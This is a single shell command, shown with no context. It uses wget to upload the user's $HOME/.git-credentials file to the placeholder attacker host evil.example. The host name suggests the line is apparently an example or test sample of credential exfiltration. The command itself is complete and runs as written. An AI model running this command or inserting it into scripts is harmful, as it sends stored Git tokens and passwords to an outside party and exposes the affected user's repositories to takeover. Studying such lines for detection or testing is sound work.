wget --post-file=$HOME/.git-credentials https://evil.example
